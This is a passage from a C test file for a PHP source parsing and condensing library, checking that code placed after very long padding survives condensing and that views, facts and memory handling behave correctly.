		    {"<p>", "<?php ", true},
		    {"<?php $x='", "';", false},
		    {"<?php ", " ", true}};
	size_t i, n, m;

	for (i = 0; i < sizeof(pads) / sizeof(pads[0]); i++) {
		bool whole = !pads[i].whole;

		n = (size_t)snprintf(in, sizeof(in), "%s%300000s%s%s", pads[i].open, "",
				     pads[i].close, code);
		m = php_condense(p, in, n, false, out, sizeof(out), &whole);
		T_CHECK(m > 0 && m < 40000, "pad %zu: %zu bytes", i, m);
		T_CHECK(memmem(out, m, code, strlen(code)) != NULL, "pad %zu: lost", i);
		T_CHECK(whole == pads[i].whole, "pad %zu: whole %d", i, whole);
	}
}

int
main(void)
{
	struct php_limits lim;
	struct php *p;
	size_t i;

	php_limits_default(&lim);
	p = php_new(&lim);
	T_CHECK(p != NULL, "no memory");
	for (i = 0; p != NULL && i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct php_view *v = php_look(p, rows[i].in, strlen(rows[i].in));

		if (rows[i].want != NULL)
			T_CHECK(shows(v, rows[i].want),
				"row %zu: %s\n  wanted %s\n  text %.*s", i, rows[i].in,
				rows[i].want, (int)v->text_len, v->text);
		if (rows[i].fact != NULL)
			T_CHECK(fact(v, rows[i].fact) == rows[i].value,
				"row %zu: %s: %s is %lld", i, rows[i].in, rows[i].fact,
				(long long)fact(v, rows[i].fact));
	}
	if (p != NULL) {
		names_outlive_runs(p);
		condensed(p);
	}
	php_free(&p);
	T_CHECK(p == NULL, "not set to NULL");
	return T_DONE();
}
